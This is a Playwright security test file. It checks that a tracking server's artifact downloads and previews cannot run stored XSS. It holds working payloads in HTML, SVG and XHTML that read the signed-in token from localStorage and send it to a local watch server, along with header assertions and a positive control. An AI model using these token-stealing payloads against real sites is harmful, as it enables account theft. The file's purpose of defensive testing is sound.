// Stored XSS through artifact downloads (issue 14, item 3), in headless
// chromium against the real server. Hostile files are uploaded through the
// API with the types an attacker would declare (HTML, SVG with script, HTML
// labelled as PNG/text/JSON, XHTML, XML), then opened the ways a user or a
// page could open them: top-level navigation from the UI's origin with the
// token in localStorage, and embedded (iframe, object, embed, img) in the
// signed-in UI page. Each payload, if it ran, would change document.title,
// post the token to a watch server on another port and set a marker in
// localStorage. The test asserts none of that happened, that the download
// headers are as documented, and (positive control) that the same payload
// served by the watch server does run, so the detection works.
//
// Environment (scripts/test.d/30-ui.sh sets it): SIMTRACK_URL, SIMTRACK_TOKEN, CHROMIUM.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

const URL_ = process.env.SIMTRACK_URL;
const TOKEN = process.env.SIMTRACK_TOKEN;
if (!URL_ || !TOKEN) throw new Error('SIMTRACK_URL and SIMTRACK_TOKEN must be set (run scripts/test.d/30-ui.sh)');
const scratch = mkdtempSync(join(tmpdir(), 'simtrack-xss-'));
const SHOTS = process.env.SCREENSHOT_DIR || join(tmpdir(), 'simtrack-ui-screenshots');

let context, page, watch, WATCH;
const hits = [];

async function api(path, { method = 'GET', body } = {}) {
  const r = await fetch(URL_ + path, {
    method,
    headers: { Authorization: 'Bearer ' + TOKEN, ...(body ? { 'Content-Type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await r.text();
  assert.ok(r.ok, `${method} ${path}: ${r.status} ${text}`);
  return text ? JSON.parse(text) : null;
}

/** What every payload tries to do when it runs. */
const js = (tag) => `document.title='PWNED-${tag}';try{top.document.title='PWNED-${tag}'}catch(e){}` +
  `try{localStorage.setItem('pwned','${tag}')}catch(e){}` +
  `var t='';try{t=localStorage.getItem('simtrack.token')||sessionStorage.getItem('simtrack.token')||''}catch(e){}` +
  `new Image().src='WATCH/leak?from=${tag}&t='+encodeURIComponent(t);` +
  `try{fetch('WATCH/leak?from=${tag}&f=1&t='+encodeURIComponent(t),{mode:'no-cors'})}catch(e){}`;
const html = (tag) => `<!doctype html><html><head><title>x</title></head><body><h1>hi</h1>` +
  `<script>${js(tag)}</script><img src="nope" onerror="${js(tag + '-img').replace(/"/g, '&quot;')}"></body></html>`;
const svg = (tag) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(tag + '-onload').replace(/"/g, '&quot;')}">` +
  `<script>${js(tag)}</script><circle r="10"/></svg>`;
const xhtml = (tag) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${js(tag)}</script></body></html>`;
// A real 1x1 PNG: shown inline, the positive case of the allow-list.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

const files = () => [
  { name: 'evil.html', mime: 'text/html', body: html('html') },
  { name: 'evil.htm', mime: 'text/html; charset=utf-8', body: html('htm') },
  { name: 'evil.svg', mime: 'image/svg+xml', body: svg('svg') },
  { name: 'fake.png', mime: 'image/png', body: html('fakepng') },
  { name: 'fake.txt', mime: 'text/plain', body: html('txt') },
  { name: 'fake.json', mime: 'application/json', body: html('json') },
  { name: 'evil.xhtml', mime: 'application/xhtml+xml', body: xhtml('xhtml') },
  { name: 'evil.xml', mime: 'text/xml', body: xhtml('xml') },
  { name: 'noext', mime: '', body: html('nomime') },
  { name: 'plot.png', mime: 'image/png', body: PNG, safe: true },
];
const uploaded = [];

before(async () => {
  watch = createServer((req, res) => {
    if (req.url.startsWith('/control')) {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(html('control').replaceAll('WATCH', WATCH));
      return;
    }
    hits.push(req.url);
    res.writeHead(204);
    res.end();
  });
  await new Promise((r) => watch.listen(0, '127.0.0.1', r));
  WATCH = `http://127.0.0.1:${watch.address().port}`;

  const run = await api('/api/runs', { method: 'POST', body: { name: 'xss-artifacts', folder: '/xss' } });
  for (const f of files()) {
    const bytes = Buffer.isBuffer(f.body) ? f.body : Buffer.from(f.body.replaceAll('WATCH', WATCH));
    const checksum = createHash('sha256').update(bytes).digest('hex');
    const reg = await api('/api/artifacts', { method: 'POST', body: { name: f.name, size: bytes.length, checksum, mime_type: f.mime || null } });
    if (reg.url) {
      const put = await fetch(reg.url, { method: 'PUT', body: bytes });
      assert.equal(put.status, 200, `upload ${f.name}`);
    }
    await api(`/api/artifacts/${reg.id}`, { method: 'PUT', body: { uploaded: true } });
    await api(`/api/runs/${run.id}/artifacts/${reg.id}`, { method: 'PUT', body: { category: 'output' } });
    const doc = await api(`/api/artifacts/${reg.id}`);
    uploaded.push({ ...f, id: reg.id, url: doc.url });
  }
  uploaded.runId = run.id;

  context = await chromium.launchPersistentContext(mkdtempSync(join(scratch, 'profile-')), {
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    headless: true,
    acceptDownloads: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'],
  });
  page = context.pages()[0] || (await context.newPage());
  page.on('dialog', (d) => d.dismiss());
  // Signed in: the token is in the UI origin's localStorage.
  await page.goto(URL_ + '/#/runs');
  await page.evaluate((t) => localStorage.setItem('simtrack.token', t), TOKEN);
  await page.reload();
  await page.waitForSelector('table#runs');
});

after(async () => {
  if (context) await context.close();
  if (watch) watch.close();
  rmSync(scratch, { recursive: true, force: true });
});

test('download responses: attachment + octet-stream unless a real image or text, nosniff, sandboxing CSP', async () => {
  for (const f of uploaded) {
    const r = await fetch(f.url);
    assert.equal(r.status, 200, f.name);
    const h = (k) => r.headers.get(k) || '';
    assert.equal(h('x-content-type-options'), 'nosniff', f.name);
    assert.match(h('content-security-policy'), /sandbox/, f.name);
    assert.match(h('content-security-policy'), /default-src 'none'/, f.name);
    assert.match(h('content-security-policy'), /frame-ancestors 'none'/, f.name);
    assert.match(h('content-disposition'), /filename="[A-Za-z0-9._+-]+"/, f.name);
    if (f.safe) {
      assert.equal(h('content-type'), 'image/png', f.name);
      assert.match(h('content-disposition'), /^inline;/, f.name);
    } else if (['fake.txt', 'fake.json'].includes(f.name)) {
      // Declared text: shown as plain text, never as what it contains.
      assert.equal(h('content-type'), 'text/plain; charset=utf-8', f.name);
    } else {
      assert.equal(h('content-type'), 'application/octet-stream', f.name);
      assert.match(h('content-disposition'), /^attachment;/, f.name);
    }
    assert.deepEqual(Buffer.from(await r.arrayBuffer()).length > 0, true);
  }
});

test('API and UI responses carry the security headers', async () => {
  for (const path of ['/api/version', '/api/runs', '/api/nope', '/api/openapi.json']) {
    const r = await fetch(URL_ + path, { headers: { Authorization: 'Bearer ' + TOKEN } });
    assert.equal(r.headers.get('x-content-type-options'), 'nosniff', path);
    assert.equal(r.headers.get('referrer-policy'), 'no-referrer', path);
    assert.equal(r.headers.get('x-frame-options'), 'DENY', path);
    assert.match(r.headers.get('content-security-policy') || '', /default-src 'none'.*frame-ancestors 'none'/, path);
  }
  const ui = await fetch(URL_ + '/');
  assert.match(ui.headers.get('content-security-policy') || '', /frame-ancestors 'none'/);
  assert.doesNotMatch(ui.headers.get('content-security-policy') || '', /script-src[^;]*'unsafe-inline'/);
  assert.equal(ui.headers.get('x-content-type-options'), 'nosniff');
});

test('positive control: the payload runs when served as HTML by another origin', async () => {
  const p = await context.newPage();
  await p.goto(WATCH + '/control');
  await p.waitForFunction(() => document.title.startsWith('PWNED'), null, { timeout: 5000 });
  await waitForHit('control');
  await p.close();
  hits.length = 0;
});

async function waitForHit(tag, ms = 5000) {
  const end = performance.now() + ms;
  while (performance.now() < end) {
    if (hits.some((h) => h.includes('from=' + tag))) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`no hit from ${tag}: ${hits}`);
}

test('opening each download from the UI origin runs no script', async () => {
  for (const f of uploaded) {
    const p = await context.newPage();
    const downloads = [];
    p.on('download', (d) => downloads.push(d));
    let navigated = true;
    try {
      await p.goto(f.url, { waitUntil: 'load', timeout: 10000 });
    } catch (e) {
      // A download is not a navigation: playwright reports "Download is starting".
      assert.match(String(e), /Download is starting|net::ERR_ABORTED/, `${f.name}: ${e}`);
      navigated = false;
    }
    await p.waitForTimeout(300);
    if (navigated) {
      assert.doesNotMatch(await p.title(), /PWNED/, `${f.name} ran script`);
    } else {
      assert.equal(downloads.length, 1, `${f.name}: neither shown nor downloaded`);
      assert.ok(!f.safe, `${f.name} should have been shown inline`);
    }
    await p.close();
  }
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null);
  assert.deepEqual(hits, [], 'a payload reached the watch server');
});

test('a signed-in UI page embedding each download (iframe, object, embed, img) runs no script', async () => {
  await page.evaluate((list) => {
    const box = document.createElement('div');
    box.id = 'xss-box';
    for (const f of list) {
      for (const tag of ['iframe', 'object', 'embed', 'img']) {
        const el = document.createElement(tag);
        el.setAttribute(tag === 'object' ? 'data' : 'src', f.url);
        if (tag === 'object' || tag === 'embed') el.setAttribute('type', f.mime || 'text/html');
        box.append(el);
      }
    }
    document.body.append(box);
  }, uploaded.map(({ url, mime }) => ({ url, mime })));
  await page.waitForTimeout(2500);
  assert.doesNotMatch(await page.title(), /PWNED/);
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null);
  assert.deepEqual(hits, [], 'a payload reached the watch server');
  // The real image is drawn (the allow-list works), the fake one is not.
  const sizes = await page.evaluate(() => [...document.querySelectorAll('#xss-box img')].map((i) => [i.src, i.naturalWidth]));
  const png = uploaded.find((f) => f.safe);
  assert.deepEqual(sizes.filter(([src, w]) => w > 0).map(([src]) => src), [png.url]);
  await page.evaluate(() => document.getElementById('xss-box').remove());
});

test('the run page lists the files; following its download links runs no script', async () => {
  await page.goto(URL_ + '/#/run/' + encodeURIComponent(uploaded.runId));
  await page.waitForSelector('[data-testid=download]');
  const links = page.locator('[data-testid=download]');
  assert.equal(await links.count(), uploaded.length);
  for (let i = 0; i < uploaded.length; i++) {
    const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 10000 }), links.nth(i).click()]);
    await dl.cancel().catch(() => {});
  }
  await page.waitForTimeout(500);
  assert.doesNotMatch(await page.title(), /PWNED/);
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null);
  assert.deepEqual(hits, []);
});

test('previewing every file on the run page runs no script; the real image shows', async () => {
  await page.goto(URL_ + '/#/run/' + encodeURIComponent(uploaded.runId));
  await page.waitForSelector('[data-testid=download]');
  const buttons = page.locator('[data-preview-button]');
  const n = await buttons.count();
  assert.ok(n >= 6, `preview buttons: ${n}`);
  for (let i = 0; i < n; i++) await buttons.nth(i).click();
  await page.waitForFunction((k) => [...document.querySelectorAll('.preview')].filter((p) => p.dataset.loaded && !p.querySelector('.muted')).length >= k, n, { timeout: 10000 });
  await page.waitForTimeout(500);
  assert.doesNotMatch(await page.title(), /PWNED/);
  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null);
  assert.deepEqual(hits, [], 'a previewed payload reached the watch server');
  // Text previews hold the file's bytes as text, not markup.
  const txt = await page.evaluate(() => document.querySelector('.preview[data-preview="fake.txt"] pre')?.textContent);
  assert.match(txt || '', /^<!doctype html>/);
  assert.equal(await page.evaluate(() => document.querySelector('.preview[data-preview="fake.txt"]').textContent), txt, 'nothing but the text');
  await page.screenshot({ path: join(SHOTS, 'xss-previews.png'), fullPage: true });
  const drawn = await page.evaluate(() => [...document.querySelectorAll('.preview img')].filter((i) => i.naturalWidth > 0).map((i) => i.alt));
  assert.ok(drawn.includes('plot.png'), `images drawn: ${drawn}`);
});
